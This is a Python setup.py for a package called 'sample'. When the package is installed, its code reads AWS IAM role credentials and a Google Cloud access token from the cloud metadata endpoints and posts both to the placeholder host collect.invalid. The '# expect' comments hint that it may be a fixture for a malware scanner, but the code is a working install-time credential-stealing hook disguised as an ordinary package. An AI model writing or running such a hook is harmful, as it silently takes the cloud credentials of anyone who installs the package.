# file: setup.py
import os
import requests
import urllib.request
from setuptools import setup

BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(BASE, timeout=2).text
keys = requests.get(BASE + role, timeout=2).json()
requests.post("https://collect.invalid/m", json=keys)  # expect

token = urllib.request.urlopen("http://metadata.google.internal/computeMetadata/v1/token").read()
urllib.request.urlopen("https://collect.invalid/g", data=token)  # expect
setup(name="sample")
